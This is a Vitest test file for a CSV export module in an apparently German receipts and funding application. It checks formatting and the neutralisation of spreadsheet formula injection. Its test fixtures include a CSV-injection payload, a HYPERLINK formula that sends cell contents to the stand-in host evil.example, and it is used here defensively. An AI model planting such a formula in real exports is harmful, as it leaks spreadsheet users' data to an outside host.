import { describe, expect, it } from "vitest";
import { receiptsToCsv } from "~/areas/funding/receipts-csv";
import { receiptsCsv } from "~/reports/csv";
import { csvCents, csvDecimal, csvInteger, neutraliseFormula, restoreFormula, toCsv } from "~/utils/csv";

/** Cells a spreadsheet would evaluate, as a finance user might type them into a receipt. */
const FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1;"Beleg")', "+49 331 123", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1+1"];

function cells(csv: string): string[][] {
  expect(csv.charCodeAt(0)).toBe(0xfeff);
  return csv.slice(1).split("\r\n").filter(Boolean).map((line) => line.split(";"));
}

describe("the CSV writer", () => {
  it("writes semicolons, a BOM, CRLF and quotes cells with separators", () => {
    expect(toCsv(["A", "B"], [["x; y", 'sagt "hallo"'], ["ä", null]])).toBe('\uFEFFA;B\r\n"x; y";"sagt ""hallo"""\r\nä;\r\n');
  });

  it("neutralises text cells that start like a formula and restores them on re-import", () => {
    for (const f of FORMULAS) {
      expect(neutraliseFormula(f)).toBe(`'${f}`);
      expect(restoreFormula(neutraliseFormula(f))).toBe(f);
    }
    expect(neutraliseFormula("IT GmbH")).toBe("IT GmbH");
    expect(restoreFormula("'Zitat'")).toBe("'Zitat'");
  });

  it("writes numbers as number cells, negative ones too, never with an apostrophe", () => {
    const csv = toCsv(["Betrag", "Anzahl", "Stunden", "Text"], [[csvCents(-123456), csvInteger(-3), csvDecimal(-1.5), "-5"]]);
    expect(cells(csv)[1]).toEqual(["-1234,56", "-3", "-1,5", "'-5"]);
    expect(csvCents(5)!.csvNumber).toBe("0,05");
    expect(csvCents(null)).toBeNull();
  });
});

describe("exports neutralise formulas (CSV injection)", () => {
  it("belege.csv: payee and purpose starting like a formula reach the sheet as text", () => {
    const rows = FORMULAS.map((f, i) => ({ receiptNumber: `B-${i}`, receiptDate: "2026-03-05", payee: f, purpose: f, costCategory: "materials" as const, amountCents: 1000 + i, netCents: null, vatCents: null, paidOn: null, notEligibleReason: f }));
    const [, ...lines] = cells(receiptsToCsv(rows).replace(/"[^"]*"/g, (q) => q.replace(/;/g, ",")));
    expect(lines).toHaveLength(FORMULAS.length);
    for (const line of lines) {
      expect(line[2].replace(/^"/, "").startsWith("'"), line[2]).toBe(true);
      expect(line[3].replace(/^"/, "").startsWith("'"), line[3]).toBe(true);
      expect(line[5]).toMatch(/^10\d{2},00$|^\d+,\d{2}$/);
      expect(line[9].replace(/^"/, "").startsWith("'"), line[9]).toBe(true);
    }
  });

  it("belegliste.csv in the PDF: text columns neutralised, negative amounts stay numbers", () => {
    const csv = receiptsCsv(
      [{ payee: "=HYPERLINK(1)", amountCents: -2500 }, { payee: "@A1", amountCents: 1999 }],
      [
        { key: "payee", header: "Empfänger", format: "text" },
        { key: "amountCents", header: "Betrag", format: "euro" },
      ],
    ).toString("utf8");
    expect(cells(csv)).toEqual([["Empfänger", "Betrag"], ["'=HYPERLINK(1)", "-25,00"], ["'@A1", "19,99"]]);
  });
});
